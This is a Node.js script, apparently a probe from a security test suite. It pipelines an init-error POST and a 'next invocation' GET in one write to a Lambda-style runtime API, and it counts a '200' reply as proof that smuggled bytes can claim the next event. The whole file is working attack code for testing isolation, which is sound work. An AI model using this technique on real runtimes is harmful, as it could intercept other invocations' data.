// class: lambda
// rule: runtime_api
// success: Node reports an init error, and bytes behind its body in the same write take the next
//   event
// proof: next
'use strict';
const net = require('net');
const { attempt, API } = require('./attack.js');
const ERROR = 'POST /2018-06-01/runtime/init/error HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\n{}\n';
const NEXT = 'GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n';
attempt(() => new Promise((fine, bad) => {
    const out = net.connect(API);
    let heard = '';
    out.on('error', bad);
    out.on('close', () => fine(false));
    setTimeout(() => out.destroy(), 3000);
    out.on('connect', () => out.write(ERROR + NEXT));
    out.on('data', (data) => {
        heard += data;
        if (heard.includes('200')) fine(true);
    });
}));
